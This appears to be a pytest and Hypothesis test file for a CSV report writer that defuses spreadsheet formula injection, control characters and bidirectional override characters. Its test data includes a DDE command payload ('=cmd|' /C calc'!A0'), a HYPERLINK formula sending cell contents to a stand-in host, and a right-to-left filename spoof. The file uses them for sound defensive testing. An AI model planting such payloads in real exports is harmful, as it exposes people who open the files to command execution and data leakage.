"""The one officer-CSV writer: no cell a spreadsheet would run, no control character, numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import stat
from decimal import Decimal, InvalidOperation
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reports.officer_csv import neutralise_text, officer_cell, officer_csv_text, write_officer_csv

# Independent of the module's own tables: what OWASP lists as formula starts (plus the full-width forms a
# Japanese spreadsheet also accepts), and the characters an officer must never get raw.
FORMULA_STARTS = "=+-@\t\r＝＋－＠"
UNSAFE = {chr(c) for c in range(0x20) if c != 0x0A} | {chr(0x7F)} | {chr(c) for c in range(0x80, 0xA0)} | set(
    "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def is_plain_number(text: str) -> bool:
    """A decimal written with ASCII digits, an optional sign and an optional fraction: what stays a number."""
    if not text or any(ch not in "0123456789+-." for ch in text) or text.endswith(".") or ".-" in text:
        return False
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return text.lstrip("+-")[:1].isdigit() and text.count(".") <= 1 and text.count("+") + text.count("-") <= 1


def starts_a_formula(text: str) -> bool:
    first = text.lstrip()[:1]
    return first != "" and first in FORMULA_STARTS


@pytest.mark.parametrize("value, expected", [
    ("=SUM(A1:A9)", "'=SUM(A1:A9)"),
    ('=HYPERLINK("http://x.example/?"&A1,"click")', "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"),
    ("+81-3-1234", "'+81-3-1234"),
    ("-2+3", "'-2+3"),
    ("@SUM(1)", "'@SUM(1)"),
    ("  =1+1", "'  =1+1"),
    ("\u3000=1", "'\u3000=1"),
    ("＝1+1", "'＝1+1"),
    ("\t=1+1", "<U+0009>=1+1"),
    ("\r=1+1", "<U+000D>=1+1"),
    ("a\x00b\x1bc\x7fd\x85e", "a<U+0000>b<U+001B>c<U+007F>d<U+0085>e"),
    ("\u202egnp.exe", "<U+202E>gnp.exe"),
    ("line 1\nline 2", "line 1\nline 2"),
    ("-1200", "-1200"),
    ("+5", "+5"),
    ("3.14", "3.14"),
    ("-0.5", "-0.5"),
    ("-inf", "'-inf"),
    ("-1e5", "'-1e5"),
    ("ｶ)ﾔﾏﾀﾞ ｼｮｳﾃﾝ", "ｶ)ﾔﾏﾀﾞ ｼｮｳﾃﾝ"),
    ("partner/ABC/ABC_sales_20261102.csv", "partner/ABC/ABC_sales_20261102.csv"),
    ("", ""),
])
def test_hand_cases(value: str, expected: str) -> None:
    assert neutralise_text(value) == expected


@pytest.mark.parametrize("value, expected", [
    (None, None), (1200, "1200"), (-3, "-3"), (0, "0"), (dt.date(2026, 11, 2), "2026-11-02"), ("=1", "'=1"),
])
def test_cells_of_every_type(value: object, expected: str | None) -> None:
    assert officer_cell(value) == expected


def test_file_layout_matches_rfc_4180_and_keeps_null_apart_from_empty() -> None:
    text = officer_csv_text(("a", "b", "c", "d"), [(None, "", 'say "hi", then\nleave', -7)])
    assert text == 'a,b,c,d\n,"","say ""hi"", then\nleave",-7\n'


@settings(max_examples=400, deadline=None)
@given(st.text())
def test_no_generated_text_comes_out_runnable_or_with_a_control_character(text: str) -> None:
    shown = neutralise_text(text)
    assert not (set(shown) & UNSAFE)
    assert not starts_a_formula(shown) or is_plain_number(shown)


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_characters="".join(UNSAFE))))
def test_safe_text_is_kept_whole(text: str) -> None:
    """Without control characters, the only change is one leading apostrophe, and only when the text would
    start a formula."""
    shown = neutralise_text(text)
    runnable = starts_a_formula(text) and not is_plain_number(text)
    assert shown == ("'" + text if runnable else text)


@settings(max_examples=200, deadline=None)
@given(st.integers(min_value=-(10**15), max_value=10**15))
def test_numbers_stay_numbers(amount_yen: int) -> None:
    assert officer_cell(amount_yen) == str(amount_yen)
    assert officer_cell(str(amount_yen)) == str(amount_yen)


cell_values = st.one_of(st.none(), st.integers(min_value=-(10**12), max_value=10**12), st.text(), st.dates())


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(cell_values, min_size=3, max_size=3), max_size=8))
def test_a_csv_reader_reads_back_exactly_the_neutralised_cells(rows: list[list[object]]) -> None:
    columns = ("first", "=second", "third")
    parsed = list(csv.reader(io.StringIO(officer_csv_text(columns, rows), newline="")))
    expected = [[officer_cell(v) or "" for v in row] for row in [list(columns), *rows]]
    assert parsed == expected


def test_written_atomically_privately_and_the_same_on_a_rerun(tmp_path: Path) -> None:
    target = tmp_path / "out" / "2026-11-02" / "report.csv"
    write_officer_csv(target, ("what", "amount_yen"), [("=cmd|' /C calc'!A0", -500)])
    first = target.read_bytes()
    write_officer_csv(target, ("what", "amount_yen"), [("=cmd|' /C calc'!A0", -500)])
    assert target.read_bytes() == first == b"what,amount_yen\n'=cmd|' /C calc'!A0,-500\n"
    assert sorted(p.name for p in target.parent.iterdir()) == ["report.csv"]
    assert stat.S_IMODE(target.stat().st_mode) == 0o640


def test_a_row_of_the_wrong_width_is_refused() -> None:
    with pytest.raises(ValueError, match="2 values for 3 columns"):
        officer_csv_text(("a", "b", "c"), [(1, 2)])
